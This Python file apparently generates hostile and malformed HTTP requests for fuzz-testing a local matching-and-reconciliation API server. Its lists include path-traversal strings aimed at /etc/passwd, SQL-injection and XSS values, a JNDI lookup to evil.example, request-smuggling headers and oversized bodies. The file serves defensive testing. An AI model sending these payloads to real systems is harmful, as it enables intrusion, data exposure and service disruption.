"""Requests that no well-behaved client sends, as bytes."""

import itertools
import json
import random

PATHS = (
    "/",
    "/api/v1/summary",
    "/api/v1/matches",
    "/api/v1/match",
    "/api/v1/search",
    "/api/v1/candidates",
    "/api/v1/picture/left",
    "/api/v1/download/matches.tsv",
    "/api/v1/lists/rivals",
    "/api/v1/decisions",
    "/api/v1/decisions/undo",
    "/api/v1/lookup",
    "/api/v1/align",
    "/reconcile/left",
    "/reconcile/right/suggest/entity",
    "/reconcile/left/preview",
    "/docs",
    "/metrics",
)
TRAVERSALS = (
    "/../../etc/passwd",
    "/..%2f..%2fetc%2fpasswd",
    "/%2e%2e/%2e%2e/manifest.json",
    "/api/v1/download/..%2f..%2fmanifest.json",
    "/api/v1/download/%00",
    "/api/v1/picture/..%2f..%2fetc/passwd?key=a",
    "/api/v1/picture/left?key=../../../../etc/passwd",
    "/api/v1/picture/left?key=file:///etc/passwd&n=0",
    "//evil.example/",
    "/\\..\\..\\windows\\win.ini",
    "/static/../manifest.json",
    "/decisions.sqlite",
    "/manifest.json",
    "/config.toml",
)
VALUES = (
    "",
    "a" * 9000,
    "%00",
    "%ff%fe",
    "\u202e".encode().hex(),
    "-1",
    "1e309",
    "NaN",
    "Infinity",
    "9" * 400,
    "0x41",
    "' OR 1=1 --",
    "'; DROP TABLE decisions; --",
    "<script>alert(1)</script>",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "%F0%9F%92%A9",
    "(a+)+$",
    "[" * 2000,
    "../" * 50,
)
NAMES = (
    "left",
    "right",
    "key",
    "q",
    "k",
    "query",
    "offset",
    "limit",
    "n",
    "side",
    "queries",
    "extend",
    "type",
    "prefix",
)
BODIES = (
    b"",
    b"{",
    b"null",
    b"[]",
    b"\xff\xfe\x00",
    b'{"left": 1e999, "right": null, "verdict": "accept"}',
    b'{"left": "a", "left": "b", "verdict": {"$ne": 1}}',
    b"[" * 50_000 + b"]" * 50_000,
    json.dumps({"side": "left", "keys": ["x"] * 1001}).encode(),
    json.dumps({"side": "left", "keys": ["\u0000"]}).encode(),
    b'{"side": "left", "keys": ["\\ud800"]}',
    json.dumps({"names": ["a" * 9000]}).encode(),
    json.dumps({"picture": "QUJD"}).encode(),
    json.dumps({"values": [{"attribute": "a", "value": "9" * 8000}]}).encode(),
    json.dumps({"id": -(2**70)}).encode(),
    b"queries=" + b"%7B" * 1000,
    b'queries={"q":{"query":"' + b"a" * 20_000 + b'"}}',
    b'extend={"ids":[],"properties":[{"id":"x"}]}' * 3,
    b"\x00" * 1000,
)
METHODS = ("GET", "POST", "PUT", "DELETE", "PATCH", "HEAD", "OPTIONS", "TRACE", "CONNECT", "BREW")
HEADERS = (
    "",
    "Host: evil.example\r\n",
    "Origin: https://evil.example\r\n",
    "Content-Type: application/xml\r\n",
    "Content-Type: multipart/form-data; boundary=x\r\n",
    "X-MMKG-Token: wrong\r\n",
    "Cookie: mmkg-token=\x01; =; ;;;\r\n",
    "Authorization: Bearer \r\n",
    "Range: bytes=0-99999999999\r\n",
    "Accept: " + "a/b," * 500 + "\r\n",
    "X-Forwarded-For: 10.0.0.1\r\nX-Forwarded-Host: evil.example\r\n",
    "Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: x\r\nSec-WebSocket-Version: 13\r\n",
)
BROKEN = (
    b"",
    b"\r\n\r\n",
    b"GET\r\n\r\n",
    b"GET / HTTP/9.9\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nBad Header\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX: " + b"a" * 200_000 + b"\r\n\r\n",
    b"POST /api/v1/lookup HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n",
    b"POST /api/v1/lookup HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: -1\r\n\r\n",
    b"POST /api/v1/lookup HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 99999999999999\r\n\r\n{}",
    b"POST /api/v1/lookup HTTP/1.1\r\nHost: 127.0.0.1\r\nTransfer-Encoding: chunked\r\n\r\nZZ\r\n\r\n",
    b"POST /api/v1/lookup HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Encoding: gzip\r\nContent-Length: 2\r\n\r\n{}",
    b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",  # TLS
    b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    bytes(range(256)) * 20,
    b"GET http://evil.example/ HTTP/1.1\r\nHost: evil.example\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nHost: evil.example\r\n\r\n",
    b"GET /%zz HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n",
    b"GET /\xff\xfe HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n",
)


def request(method, path, headers="", body=b""):
    """One request as bytes; the connection is closed after it."""
    host = "" if "Host:" in headers else "Host: 127.0.0.1\r\n"
    length = f"Content-Length: {len(body)}\r\n" if body or method in ("POST", "PUT", "PATCH") else ""
    head = f"{method} {path} HTTP/1.1\r\n{host}{headers}{length}Connection: close\r\n\r\n"
    return head.encode("latin-1", "replace") + body


def hostile(number, seed=0):
    """So many requests: each broken one, each traversal, then paths, values, bodies, methods and headers at random."""
    yield from itertools.islice(itertools.chain(BROKEN, (request("GET", path) for path in TRAVERSALS)), number)
    draw = random.Random(seed)
    for _ in range(max(0, number - len(BROKEN) - len(TRAVERSALS))):
        method = draw.choice(METHODS if draw.random() < 0.3 else ("GET", "POST"))
        path = draw.choice(PATHS if draw.random() < 0.9 else TRAVERSALS)
        given = [f"{draw.choice(NAMES)}={draw.choice(VALUES)}" for _ in range(draw.randrange(4))]
        path += ("&" if "?" in path else "?") + "&".join(each.replace(" ", "%20") for each in given) if given else ""
        headers = draw.choice(HEADERS) if draw.random() < 0.5 else ""
        if method == "POST" and "Content-Type" not in headers:
            form = path.startswith("/reconcile")
            headers += f"Content-Type: application/{'x-www-form-urlencoded' if form else 'json'}\r\n"
        body = draw.choice(BODIES) if method in ("POST", "PUT", "PATCH") else b""
        yield request(method, path, headers, body)
